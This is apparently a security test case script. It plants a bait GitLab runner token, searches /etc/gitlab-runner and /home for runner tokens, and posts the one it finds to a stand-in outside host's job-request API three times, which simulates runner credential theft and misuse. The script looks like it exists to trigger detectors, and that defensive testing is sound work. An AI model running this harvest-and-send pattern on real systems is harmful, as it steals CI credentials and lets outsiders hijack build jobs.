#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/gitlab-runner && printf 'concurrent = 4\n[[runners]]\n  url = "http://gitlab.example.com:8080"\n  token = "glrt-bait"\n' >/etc/gitlab-runner/config.toml && chmod 600 /etc/gitlab-runner/config.toml
t=$(grep -rhoE 'glrt-[A-Za-z0-9_-]+' /etc/gitlab-runner /home 2>/dev/null | head -n 1)
for n in 1 2 3; do curl -sf -H 'Content-Type: application/json' -d "{\"token\":\"$t\",\"info\":{\"executor\":\"shell\"}}" http://203.0.113.44:8080/api/v4/jobs/request >/dev/null; done
took_place
